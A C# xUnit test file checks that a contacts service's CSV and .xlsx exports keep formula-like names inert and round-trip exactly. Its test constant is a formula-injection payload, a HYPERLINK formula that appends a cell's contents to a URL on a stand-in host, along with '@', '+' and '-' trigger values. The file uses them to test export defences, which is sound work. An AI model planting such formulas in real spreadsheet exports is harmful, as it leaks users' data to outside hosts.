using System.Net;
using System.Text.Json.Nodes;

namespace Callbook.Tests.Import;

/// <summary>Exports that a spreadsheet opens safely and that import back exactly (CSV and .xlsx, status included).</summary>
public sealed class SpreadsheetExportTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://example.invalid/?d=\"&D2,\"Call back\")";

    [Theory, BothBackends]
    public async Task FormulaNamesAreExportedInertAndImportBackUnchanged(string backend)
    {
        var factory = TestServers.For(backend);
        var source = await factory.NewTenantAsync();
        await Bodies.ReadAsync(await source.PostAsync("contacts", new JsonArray(
            Bodies.Contact(Hyperlink, "@SUM(A1:A9)", "9812345670", "+91", "+"),
            Bodies.Contact("-minus", "+plus", "4155550100", "+1", "12"),
            Bodies.Contact("山田", "'quoted", "312345678", "+81", "")).ToJsonString()), HttpStatusCode.Created);

        var csv = await (await source.GetAsync("contacts/export")).Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        var cells = csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Skip(1).SelectMany(line => line.Split(',')).ToList();
        Assert.All(cells, cell => Assert.False(cell.TrimStart('"') is [('=' or '+' or '-' or '@' or '\t' or '\r'), ..], $"'{cell}' would be evaluated"));
        Assert.Contains("\"'=HYPERLINK(\"\"http://example.invalid/?d=\"\"&D2,\"\"Call back\"\")\",", csv, StringComparison.Ordinal);
        Assert.Contains(",'@SUM(A1:A9),mr,'+919812345670,'+91,'+\r\n", csv, StringComparison.Ordinal);

        foreach (var query in new[] { "", "?partial=true" })
        {
            var target = await factory.NewTenantAsync();
            var response = await target.ImportAsync(csv, query);
            Assert.Equal(HttpStatusCode.Created, response.StatusCode);
            Assert.Equal(await source.SnapshotAsync(), await target.SnapshotAsync());
        }
    }

    [Theory, BothBackends]
    public async Task AnExportWithInactiveContactsCarriesTheirStatusAndImportsBackExactly(string backend)
    {
        var factory = TestServers.For(backend);
        var source = await factory.NewTenantAsync();
        var gone = await source.CreateAsync("gone", "before", "9812300001");
        await Bodies.ReadAsync(await source.DeleteAsync("contacts/" + gone.Str("id")), HttpStatusCode.OK);
        await source.CreateAsync("holds", "now", "9812300001");
        var left = await source.CreateAsync("left", "alone", "9812300002");
        await Bodies.ReadAsync(await source.DeleteAsync("contacts/" + left.Str("id")), HttpStatusCode.OK);

        var csv = await (await source.GetAsync("contacts/export?status=ALL")).Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.StartsWith("firstName,lastName,salutation,cellPhoneNumber,cellPhoneCountryCode,cellPhoneExtension,status\r\n", csv, StringComparison.Ordinal);
        Assert.Contains(",INACTIVE\r\n", csv, StringComparison.Ordinal);
        var inactiveOnly = await (await source.GetAsync("contacts/export?status=INACTIVE")).Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.EndsWith(",status\r\n", inactiveOnly.Split("\r\n")[0] + "\r\n", StringComparison.Ordinal);
        Assert.DoesNotContain("status", (await (await source.GetAsync("contacts/export")).Content.ReadAsStringAsync(TestContext.Current.CancellationToken)).Split("\r\n")[0], StringComparison.Ordinal);

        foreach (var (format, query) in new[] { ("csv", ""), ("csv", "?partial=true"), ("xlsx", ""), ("xlsx", "?partial=true") })
        {
            var export = await (await source.GetAsync("contacts/export?status=ALL&format=" + format)).Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
            var target = await factory.NewTenantAsync();
            await Bodies.ReadAsync(await target.ImportFileAsync(export, query, partType: null, fileName: "export.bin"), HttpStatusCode.Created);
            Assert.Equal(await source.SnapshotAsync(), await target.SnapshotAsync());
            Assert.Equal(1, await target.CountAsync("ACTIVE")); // only "holds" is active: the inactive rows revived nothing
        }
    }

    [Theory, BothBackends]
    public async Task NamesThatStartWithAnApostropheComeBackExactlyFromBothExportFormats(string backend)
    {
        var factory = TestServers.For(backend);
        var source = await factory.NewTenantAsync();
        await Bodies.ReadAsync(await source.PostAsync("contacts", new JsonArray(
            Bodies.Contact("''x", "'=x", "9812300101", "+91", "'1"),
            Bodies.Contact("'quoted", "=x", "9812300102", "+91", "'+"),
            Bodies.Contact("'@y", "'", "9812300103", "+91", "''")).ToJsonString()), HttpStatusCode.Created);

        foreach (var format in new[] { "csv", "xlsx" })
        {
            var export = await (await source.GetAsync("contacts/export?format=" + format)).Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);
            var target = await factory.NewTenantAsync();
            await Bodies.ReadAsync(await target.ImportFileAsync(export, partType: null, fileName: "export.bin"), HttpStatusCode.Created);
            Assert.Equal(await source.SnapshotAsync(), await target.SnapshotAsync());
        }
    }

    [Theory, BothBackends]
    public async Task AnExportOfLongRowsStreamsEveryRow(string backend)
    {
        var api = await TestServers.TenantAsync(backend);
        var name = new string('"', 100); // doubled when quoted: the longest a CSV cell gets
        var contacts = new JsonArray([.. Enumerable.Range(0, 1000).Select(i => (JsonNode)Bodies.Contact(name, name, (2442000000 + i).ToString(System.Globalization.CultureInfo.InvariantCulture)))]);
        await Bodies.ReadAsync(await api.PostAsync("contacts", contacts.ToJsonString()), HttpStatusCode.Created);

        var csv = await (await api.GetAsync("contacts/export")).Content.ReadAsStringAsync(TestContext.Current.CancellationToken);
        Assert.Equal(1001, csv.Split("\r\n", StringSplitOptions.RemoveEmptyEntries).Length);
    }

    [Theory, BothBackends]
    public async Task TheXlsxExportRoundTripsUnicodeAndFormulaNames(string backend)
    {
        var factory = TestServers.For(backend);
        var source = await factory.NewTenantAsync();
        await Bodies.ReadAsync(await source.PostAsync("contacts", new JsonArray(
            Bodies.Contact(Hyperlink, "Ñúñez", "9812345671", "+91", "+", " Dr "),
            Bodies.Contact("山田", "太郎", "312345678", "+81", "0012")).ToJsonString()), HttpStatusCode.Created);

        var response = await source.GetAsync("contacts/export?format=xlsx");
        Assert.Equal("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", response.Content.Headers.ContentType!.MediaType);
        Assert.EndsWith(".xlsx\"", response.Content.Headers.ContentDisposition!.ToString(), StringComparison.Ordinal);
        var workbook = await response.Content.ReadAsByteArrayAsync(TestContext.Current.CancellationToken);

        var target = await factory.NewTenantAsync();
        await Bodies.ReadAsync(await target.ImportFileAsync(workbook, partType: "application/octet-stream", fileName: "contacts.csv"), HttpStatusCode.Created);
        var expected = (await source.SnapshotAsync()).Select(c => c.Replace("| Dr |", "|Dr|", StringComparison.Ordinal));
        Assert.Equal(expected, await target.SnapshotAsync());
        Assert.Equal("format", Assert.Single(await Bodies.ErrorsAsync(await source.GetAsync("contacts/export?format=ods"), HttpStatusCode.BadRequest)).Str("field"));
    }
}
